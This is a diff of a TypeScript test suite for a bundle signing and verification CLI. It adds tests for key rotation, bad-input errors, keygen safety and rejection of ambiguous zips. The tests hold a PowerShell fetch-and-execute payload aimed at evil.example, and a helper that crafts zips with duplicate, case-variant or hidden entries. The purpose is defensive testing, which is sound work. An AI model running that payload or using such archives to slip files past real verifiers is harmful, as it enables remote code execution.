@@ -1,10 +1,22 @@
 /**
  * Signed unit bundles: byte-identical across runs; `attt verify` accepts the genuine
  * bundle and rejects a tampered, missing or extra file and a wrong key; a regeneration
- * after one unit changes rewrites only that unit's zip; a killed run leaves the previous
- * output intact.
+ * after one unit changes rewrites only that unit's zip, and another key re-signs every zip;
+ * a killed run leaves the previous output intact. Archives that unzip tools could extract
+ * differently are rejected; bad keys, directories and unwritable places are bad input
+ * (exit 2, naming the path) and leave every file as it was.
  */
-import { cpSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  cpSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  statSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { execa } from "execa";
@@ -201,5 +213,331 @@ describe("province-scale packaging", () => {
     child.kill("SIGKILL");
     await child;
     expect(snapshot()).toEqual(before);
+  });
+});
+
+/** Stored (uncompressed) zip written by hand: names may repeat, and an entry may be left out of the central directory. */
+function rawZip(entries: Array<{ name: string; data: Uint8Array; hidden?: boolean }>): Buffer {
+  const crc = (data: Uint8Array) => {
+    let c = ~0;
+    for (const b of data) {
+      c ^= b;
+      for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
+    }
+    return ~c >>> 0;
+  };
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const { name, data, hidden } of entries) {
+    const n = Buffer.from(name, "utf8");
+    const h = Buffer.alloc(30);
+    h.writeUInt32LE(0x04034b50, 0);
+    h.writeUInt16LE(20, 4);
+    h.writeUInt16LE(0x0800, 6);
+    h.writeUInt32LE(crc(data), 14);
+    h.writeUInt32LE(data.length, 18);
+    h.writeUInt32LE(data.length, 22);
+    h.writeUInt16LE(n.length, 26);
+    locals.push(h, n, Buffer.from(data));
+    if (!hidden) {
+      const c = Buffer.alloc(46);
+      c.writeUInt32LE(0x02014b50, 0);
+      c.writeUInt16LE(20, 4);
+      c.writeUInt16LE(20, 6);
+      c.writeUInt16LE(0x0800, 8);
+      c.writeUInt32LE(crc(data), 16);
+      c.writeUInt32LE(data.length, 20);
+      c.writeUInt32LE(data.length, 24);
+      c.writeUInt16LE(n.length, 28);
+      c.writeUInt32LE(offset, 42);
+      centrals.push(c, n);
+    }
+    offset += 30 + n.length + data.length;
+  }
+  const central = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  const count = entries.filter((e) => !e.hidden).length;
+  end.writeUInt16LE(count, 8);
+  end.writeUInt16LE(count, 10);
+  end.writeUInt32LE(central.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, central, end]);
+}
+
+/** The genuine signed bundle's entries, in order, for rawZip. */
+const genuineEntries = () =>
+  [...unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)))].map(([name, data]) => ({ name, data }));
+const APPLY = "windows-office/Apply-Baseline.ps1";
+const EVIL = strToU8("Invoke-WebRequest http://evil.example | Invoke-Expression\n");
+
+/** Every file under `dir` with its bytes, to show that nothing was written or changed. */
+const snapshotDir = (dir: string) =>
+  new Map(
+    readdirSync(dir, { recursive: true, encoding: "utf8" })
+      .sort()
+      .map((n) => {
+        const p = join(dir, n);
+        return [n, statSync(p).isDirectory() ? "dir" : readFileSync(p).toString("base64")] as const;
+      }),
+  );
+
+describe("zips that unzip tools could extract differently", () => {
+  it("a zip written by another tool, with the same entries, still verifies", async () => {
+    const out = join(work, "rewritten.zip");
+    writeFileSync(out, rawZip(genuineEntries()));
+    const r = await runCli(["verify", out, "--key", PUB]);
+    expect(r.exitCode, r.stderr).toBe(0);
+  });
+
+  const ambiguous: Array<
+    [string, () => Array<{ name: string; data: Uint8Array; hidden?: boolean }>, RegExp]
+  > = [
+    [
+      "a duplicate entry name (a hostile first copy, the genuine one last)",
+      () => [{ name: APPLY, data: EVIL }, ...genuineEntries()],
+      /duplicate entry "windows-office\/Apply-Baseline\.ps1"/,
+    ],
+    [
+      "names that differ only by case",
+      () => [...genuineEntries(), { name: "Windows-Office/apply-baseline.PS1", data: EVIL }],
+      /entries "windows-office\/Apply-Baseline\.ps1" and "Windows-Office\/apply-baseline\.PS1" are the same file when extracted on Windows/,
+    ],
+    [
+      "a name with ./",
+      () => [...genuineEntries(), { name: `./${APPLY}`, data: EVIL }],
+      /are the same file when extracted on Windows/,
+    ],
+    [
+      "a name with backslashes",
+      () => [...genuineEntries(), { name: APPLY.replace("/", "\\"), data: EVIL }],
+      /are the same file when extracted on Windows/,
+    ],
+    [
+      "a name with a trailing dot",
+      () => [...genuineEntries(), { name: `${APPLY}.`, data: EVIL }],
+      /are the same file when extracted on Windows/,
+    ],
+    [
+      "a file hidden outside the central directory (what a streaming unzip would extract last)",
+      () => [...genuineEntries(), { name: APPLY, data: EVIL, hidden: true }],
+      /bytes hidden before the central directory/,
+    ],
+  ];
+  for (const [name, entries, message] of ambiguous) {
+    it(`verify rejects ${name}`, async () => {
+      const out = join(work, `ambiguous-${ambiguous.findIndex(([n]) => n === name)}.zip`);
+      writeFileSync(out, rawZip(entries()));
+      const r = await runCli(["verify", out, "--key", PUB]);
+      expect(r.exitCode, r.stderr).toBe(1);
+      expect(r.stderr).toMatch(/^REJECTED: /);
+      expect(r.stderr).toMatch(message);
+    });
+  }
+
+  it("sign refuses a zip with duplicate names (bad input) and leaves it as it was", async () => {
+    const out = join(work, "dup-to-sign.zip");
+    const bytes = rawZip([{ name: APPLY, data: EVIL }, ...genuineEntries()]);
+    writeFileSync(out, bytes);
+    const r = await runCli(["sign", out, "--key", KEY]);
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr).toContain(`${out}: duplicate entry`);
+    expect(readFileSync(out).equals(bytes)).toBe(true);
+  });
+});
+
+describe("changing the signing key", () => {
+  it("re-signs every zip; signed and unsigned builds are different outputs", async () => {
+    const out = join(work, "rekey");
+    const k2 = join(work, "keys-2");
+    expect((await runCli(["keygen", "--out", k2])).exitCode).toBe(0);
+    const pkg = async (...key: string[]) => {
+      const r = await runCli(["baseline", "package", inventory, "--out", out, ...key, "--json"]);
+      expect(r.exitCode, r.stderr).toBe(0);
+      return JSON.parse(r.stdout) as { units: number; rebuilt: number; unchanged: number };
+    };
+    const first = await pkg("--sign-key", KEY);
+    expect(first.rebuilt).toBe(first.units);
+    expect((await pkg("--sign-key", KEY)).rebuilt).toBe(0);
+    expect((await pkg("--sign-key", join(k2, "attt-signing.key"))).rebuilt).toBe(first.units);
+    const zip = zipOf(out, UNIT);
+    expect((await runCli(["verify", zip, "--key", join(k2, "attt-signing.pub")])).exitCode).toBe(0);
+    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(1);
+    const unsigned = await pkg();
+    expect(unsigned.rebuilt).toBe(first.units);
+    expect((await runCli(["verify", zip, "--key", join(k2, "attt-signing.pub")])).stderr).toMatch(
+      /not signed/,
+    );
+    expect((await pkg()).rebuilt).toBe(0);
+    // Back to a key after `attt sign` re-signed one zip by hand: the index no longer describes it.
+    expect((await pkg("--sign-key", KEY)).rebuilt).toBe(first.units);
+    expect((await runCli(["sign", zip, "--key", join(k2, "attt-signing.key")])).exitCode).toBe(0);
+    const after = await pkg("--sign-key", KEY);
+    expect(after.rebuilt).toBe(1);
+    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(0);
+  });
+});
+
+describe("sign checks every input before writing any", () => {
+  const setup = (name: string) => {
+    const dir = join(work, name);
+    mkdirSync(dir);
+    const a = join(dir, "a.zip");
+    const b = join(dir, "b.zip");
+    const bad = join(dir, "bad.zip");
+    // Unsigned copies of a genuine bundle: signing them would change their bytes.
+    const unsigned = zipFiles(
+      new Map([...unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)))].filter(([n]) => n !== SIGNATURE)),
+    );
+    writeFileSync(a, unsigned);
+    writeFileSync(b, unsigned);
+    writeFileSync(bad, "this is not a zip\n");
+    return { dir, a, b, bad };
+  };
+
+  it("a file that is not a zip is bad input naming it, and no other zip is changed", async () => {
+    const { dir, a, b, bad } = setup("sign-batch");
+    const before = snapshotDir(dir);
+    const r = await runCli(["sign", a, bad, b, "--key", KEY]);
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr).toContain(`${bad}: not a zip archive`);
+    expect(r.stderr).not.toMatch(/internal error/);
+    expect(snapshotDir(dir)).toEqual(before);
+    // The same files without the bad one sign.
+    expect((await runCli(["sign", a, b, "--key", KEY])).exitCode).toBe(0);
+    expect((await runCli(["verify", b, "--key", PUB])).exitCode).toBe(0);
+    expect(readdirSync(dir).sort()).toEqual(["a.zip", "b.zip", "bad.zip"]);
+  });
+
+  it("a key that is not a signing key is bad input, and no zip is changed", async () => {
+    const { dir, a } = setup("sign-badkey");
+    const before = snapshotDir(dir);
+    writeFileSync(join(work, "junk.key"), "not a key");
+    const junk = await runCli(["sign", a, "--key", join(work, "junk.key")]);
+    expect(junk.exitCode).toBe(2);
+    expect(junk.stderr).toMatch(/junk\.key: expected an Ed25519 private key/);
+    const pub = await runCli(["sign", a, "--key", PUB]);
+    expect(pub.exitCode).toBe(2);
+    expect(pub.stderr).toContain(`${PUB} is a public key; signing takes the private key`);
+    expect(snapshotDir(dir)).toEqual(before);
+  });
+
+  it.skipIf(process.getuid?.() === 0)(
+    "an unwritable folder is bad input naming the file, and no zip is changed",
+    async () => {
+      const { dir, a } = setup("sign-readonly");
+      const ro = join(dir, "ro");
+      mkdirSync(ro);
+      const locked = join(ro, "locked.zip");
+      writeFileSync(locked, readFileSync(a));
+      chmodSync(ro, 0o555);
+      try {
+        const before = snapshotDir(dir);
+        const r = await runCli(["sign", a, locked, "--key", KEY]);
+        expect(r.exitCode).toBe(2);
+        expect(r.stderr).toContain(`${locked}: cannot write the signed bundle in ${ro} (permission denied)`);
+        expect(snapshotDir(dir)).toEqual(before);
+      } finally {
+        chmodSync(ro, 0o755);
+      }
+    },
+  );
+});
+
+describe("keygen never overwrites nor leaves half a key pair", () => {
+  it("refuses when the public key's name is taken by a directory, writing nothing", async () => {
+    const dir = join(work, "keygen-dir");
+    mkdirSync(join(dir, "attt-signing.pub"), { recursive: true });
+    const r = await runCli(["keygen", "--out", dir]);
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr).toContain(`${join(dir, "attt-signing.pub")} exists; refusing to overwrite`);
+    expect(readdirSync(dir)).toEqual(["attt-signing.pub"]);
+    expect(existsSync(join(dir, "attt-signing.key"))).toBe(false);
+  });
+
+  it("refuses to overwrite an existing public key, writing nothing", async () => {
+    const dir = join(work, "keygen-pub");
+    mkdirSync(dir);
+    writeFileSync(join(dir, "attt-signing.pub"), "OLD\n");
+    const r = await runCli(["keygen", "--out", dir]);
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr).toContain(`${join(dir, "attt-signing.pub")} exists`);
+    expect(readdirSync(dir)).toEqual(["attt-signing.pub"]);
+    expect(readFileSync(join(dir, "attt-signing.pub"), "utf8")).toBe("OLD\n");
+  });
+
+  it("refuses to overwrite an existing private key, writing nothing", async () => {
+    const before = snapshotDir(keys);
+    const r = await runCli(["keygen", "--out", keys]);
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr).toContain(`${KEY} exists; refusing to overwrite a signing key`);
+    expect(snapshotDir(keys)).toEqual(before);
+  });
+
+  it("writes exactly the two key files, the private one readable only by its owner", async () => {
+    const dir = join(work, "keygen-new");
+    expect((await runCli(["keygen", "--out", dir])).exitCode).toBe(0);
+    expect(readdirSync(dir).sort()).toEqual(["attt-signing.key", "attt-signing.pub"]);
+    expect(statSync(join(dir, "attt-signing.key")).mode & 0o077).toBe(0);
+  });
+});
+
+describe("paths that are not the expected file", () => {
+  const zip = () => zipOf(join(work, "a"), UNIT);
+  const cases: Array<[string, () => string[], string, RegExp]> = [
+    [
+      "package --sign-key <dir>",
+      () => ["baseline", "package", inventory, "--out", join(work, "never"), "--sign-key", keys],
+      keys,
+      /--sign-key .* is a directory; expected an Ed25519 private key file/,
+    ],
+    ["sign <dir>", () => ["sign", keys, "--key", KEY], keys, /is a directory; expected a bundle zip file/],
+    [
+      "sign --key <dir>",
+      () => ["sign", zip(), "--key", keys],
+      keys,
+      /--key .* is a directory; expected an Ed25519 private key file/,
+    ],
+    [
+      "verify <dir>",
+      () => ["verify", keys, "--key", PUB],
+      keys,
+      /is a directory; expected a bundle zip file/,
+    ],
+    [
+      "verify --key <dir>",
+      () => ["verify", zip(), "--key", keys],
+      keys,
+      /--key .* is a directory; expected the Department's Ed25519 public key file/,
+    ],
+    [
+      "verify <missing>",
+      () => ["verify", join(work, "no-such.zip"), "--key", PUB],
+      join(work, "no-such.zip"),
+      /does not exist; expected a bundle zip file/,
+    ],
+  ];
+  for (const [name, args, path, message] of cases) {
+    it(`${name} is bad input naming the path`, async () => {
+      const before = readFileSync(zip());
+      const r = await runCli(args());
+      expect(r.exitCode).toBe(2);
+      expect(r.stderr).toContain(path);
+      expect(r.stderr).toMatch(message);
+      expect(r.stderr).not.toMatch(/internal error|EISDIR/);
+      expect(readFileSync(zip()).equals(before)).toBe(true);
+      expect(existsSync(join(work, "never"))).toBe(false);
+    });
+  }
+});
+
+describe("verify takes only the public key", () => {
+  it("refuses the private key: schools must be given only the public key", async () => {
+    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", KEY]);
+    expect(r.exitCode).toBe(2);
+    expect(r.stderr).toContain(`${KEY} is a private signing key`);
+    expect(r.stderr).toMatch(/Give schools only the public key/);
+    expect(r.stdout).not.toMatch(/^OK/);
   });
 });
